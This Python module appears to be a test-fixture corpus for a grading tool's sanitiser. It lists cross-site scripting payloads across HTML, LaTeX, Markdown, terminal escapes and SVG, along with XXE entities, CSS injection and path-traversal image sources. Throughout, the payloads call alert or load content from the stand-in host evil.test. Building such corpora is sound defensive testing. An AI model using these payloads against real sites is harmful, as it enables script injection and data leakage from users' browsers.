"""What a submission may hold to run in somebody's browser, or to have it ask another machine.

Each text that runs says so: it calls `alert`, or asks http://evil.test for something.
"""

import base64
import io
import struct
import zlib

from PIL import Image

RUN = "alert('pwned')"
EVIL = "http://evil.test/"
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><script>{RUN}</script></svg>"


def png(claims=None):
    """A small PNG in base64, which may claim to be of another size."""
    file = io.BytesIO()
    Image.new("1", (2, 2)).save(file, "PNG")
    content = bytearray(file.getvalue())
    if claims:
        content[16:24] = struct.pack(">II", *claims)
        content[29:33] = struct.pack(">I", zlib.crc32(content[12:29]))
    return base64.b64encode(content).decode()


def data(kind, text):
    """A data address."""
    return f"data:{kind};base64,{base64.b64encode(text.encode()).decode()}"


HTML = [
    f"<script>{RUN}</script>",
    f"<script src='{EVIL}x.js'></script>",
    f"<SCRIPT >{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<img src=x onerror="{RUN}">',
    f'<img/src=x/onerror="{RUN}">',
    f"<IMG SRC=x OnErRoR={RUN.replace(' ', '')}>",
    f"<img src='{EVIL}pixel.png'>",
    "<img src='//evil.test/pixel.png'>",
    "<img src='/formgrader?path=/tmp/evil'>",
    "<img src='../../../formgrader?path=/tmp/evil'>",
    f"<img srcset='{EVIL}1.png 1x'>",
    f"<img src='{data('text/html', '<script>' + RUN + '</script>')}' onload=\"{RUN}\">",
    f"<picture><source srcset='{EVIL}p.png'><img></picture>",
    f"<video src='{EVIL}v.mp4' autoplay onerror=\"{RUN}\"></video>",
    f'<video><source onerror="{RUN}" src=x></video>',
    f'<audio src=x onerror="{RUN}" autoplay>',
    f'<svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<svg><a xlink:href="javascript:{RUN}"><text x=9 y=9>x</text></a></svg>',
    f"<svg><image href='{EVIL}i.png'/></svg>",
    f"<svg><use href='{EVIL}u.svg#x'/></svg>",
    f'<svg><foreignObject><iframe srcdoc="<script>{RUN}</script>"></iframe></foreignObject></svg>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={RUN}>">',
    f'<math><mi//xlink:href="data:x,<script>{RUN}</script>">',
    f'<math href="javascript:{RUN}">x</math>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src='{EVIL}'></iframe>",
    f'<object data="javascript:{RUN}"></object>',
    f"<object data='{data('text/html', '<script>' + RUN + '</script>')}'></object>",
    f"<embed src='{EVIL}'>",
    f'<embed src="javascript:{RUN}">',
    f'<form action="javascript:{RUN}"><button autofocus onfocus="{RUN}">x</button></form>',
    f"<form action='{EVIL}'><input type=submit></form>",
    f'<button formaction="javascript:{RUN}">x</button>',
    f'<input autofocus onfocus="{RUN}">',
    f"<input type=image src='{EVIL}i.png' onerror=\"{RUN}\">",
    f'<select autofocus onfocus="{RUN}"></select>',
    f'<textarea autofocus onfocus="{RUN}"></textarea>',
    f'<a href="javascript:{RUN}" autofocus onfocus="{RUN}">x</a>',
    f'<a href="java\tscript:{RUN}">x</a>',
    f'<a href="&#106;avascript:{RUN}">x</a>',
    f"<a href='{data('text/html', '<script>' + RUN + '</script>')}'>x</a>",
    f'<a href="vbscript:{RUN}">x</a>',
    f'<div onmouseover="{RUN}" onclick="{RUN}">x</div>',
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    f'<marquee onstart="{RUN}">x</marquee>',
    f"<body onload=\"{RUN}\" background='{EVIL}b.png'>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href='{EVIL}'>",
    f"<link rel=stylesheet href='{EVIL}s.css'>",
    f"<link rel=prefetch href='{EVIL}p'>",
    f"<style>@import '{EVIL}s.css'; body {{ background: url({EVIL}b.png) }}</style>",
    f'<style>@keyframes x{{}}</style><b style="animation-name:x" onanimationstart="{RUN}">x</b>',
    f"<div style=\"background:url('{EVIL}b.png')\">x</div>",
    f'<div style="background-color:u\\72l({EVIL}b.png)">x</div>',
    f'<div style="width:expression({RUN})">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">cover</div>',
    f"<table background='{EVIL}t.png'><td background='{EVIL}d.png'>x</table>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<title><img title="</title><img src=x onerror={RUN}>">',
    f'<xmp><img title="</xmp><img src=x onerror={RUN}>">',
    f'<textarea><img title="</textarea><img src=x onerror={RUN}>">',
    f'<!--><img src=x onerror="{RUN}">-->',
    f'<![CDATA[<img src=x onerror="{RUN}">]]>',
    f'<?xml-stylesheet href="javascript:{RUN}"?>',
    f"<template><script>{RUN}</script></template>",
    f'<div><template shadowrootmode=open><img src=x onerror="{RUN}"></template></div>',
    "<div data-toggle=tooltip data-html=true title=\"<img src=x onerror=alert('pwned')>\">x</div>",
    "<a data-link='javascript:alert(1)' id=score name=top class='full-credit score'>x</a>",
    f'<isindex action="javascript:{RUN}">',
    f'<x onclick="{RUN}" contenteditable autofocus tabindex=1 onfocus="{RUN}">x</x>',
    f"</div></div></div></body></html><script>{RUN}</script>",
    f'</pre></div><img src=x onerror="{RUN}">',
    f"<b title='\"><script>{RUN}</script>'>x</b>",
    '<span class="formula-0"></span><p title=\'<span class="formula-0"></span>\'>x</p>',
    f"<plaintext><script>{RUN}</script>",
]

LATEX = [
    f'\\text{{<img src=x onerror="{RUN}">}}',
    f"\\href{{javascript:{RUN}}}{{x}}",
    f"\\style{{background:url({EVIL}s.png)}}{{x}}",
    "\\class{full-credit}{\\cssId{score}{x}}",
    f"\\mathrm{{</mi><script>{RUN}</script>}}",
    f"x<script>{RUN}</script>",
    f"\\color{{red;background:url({EVIL}c.png)}}{{x}}",
    "\\hspace{-9999em}x",
    "\\genfrac{}{}{9999pt}{}{1}{2}",
    f'\\unicode{{"><img src=x onerror={RUN}>}}',
    "\\require{html}\\def\\x{y}",
    "\\frac{" * 500,
]

MARKDOWN = [
    f"[x](javascript:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](&#x6A;avascript:{RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgncHduZWQnKTwvc2NyaXB0Pg==)",
    f'[x](x "onmouseover={RUN}")',
    f"[x]: javascript:{RUN}\n\n[x]",
    f"<javascript:{RUN}>",
    f"![x]({EVIL}tracker.png)",
    "![x](/formgrader?path=/tmp/evil)",
    f'![x](x"onerror="{RUN})',
    f'![a"onerror="{RUN}](attachment:a.png)',
    "![x](attachment:missing.png)",
    "![x](attachment:live.svg)",
    f'[x]({EVIL} "a link that nobody clicks")',
    "[x](/formgrader?path=/tmp/evil)",
    f'```"><script>{RUN}</script>\nx\n```',
    f"`<script>{RUN}</script>`",
    f'| a |\n|---|\n| <img src=x onerror="{RUN}"> |',
    f'# <img src=x onerror="{RUN}">',
    f'<div title="\n\n$\\text{{" onmouseover={RUN} x=}}$\n\n<p title=\'\n\n$y$\n\n<b>">\'>',
    f'<b title="$x$"><img alt="$y$" src=x onerror={RUN}>',
    f'$$\\text{{</math><img src=x onerror="{RUN}">}}$$',
    *(f"${latex}$" for latex in LATEX),
    *HTML,
]

TERMINAL = [
    f"\x1b[31m<script>{RUN}</script>\x1b[0m",
    f'\x1b[38;2;1;2;3"onmouseover="{RUN}m x',
    "\x1b[38;5;999999999999999999999999m x",
    "\x1b[" + "9" * 6000 + "m x",
    f"\x1b]8;;javascript:{RUN}\x07link\x1b]8;;\x07",
    "\x1b[31m" * 2000,
    f"</pre><script>{RUN}</script>",
    *HTML[:8],
]

PICTURES = [
    SVG,
    f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{EVIL}i.png'/></svg>",
    f"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM '{EVIL}x'>]><svg>&x;</svg>",
    f"<?xml-stylesheet href='{EVIL}s.css'?><svg xmlns='http://www.w3.org/2000/svg'/>",
    f"<svg xmlns='http://www.w3.org/2000/svg'><style>@import '{EVIL}s.css';</style></svg>",
    f"<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><body xmlns='http://www.w3.org/1999/"
    f"xhtml'><img src='{EVIL}f.png' onerror=\"{RUN}\"/></body></foreignObject></svg>",
    f"'><script>{RUN}</script>",
]
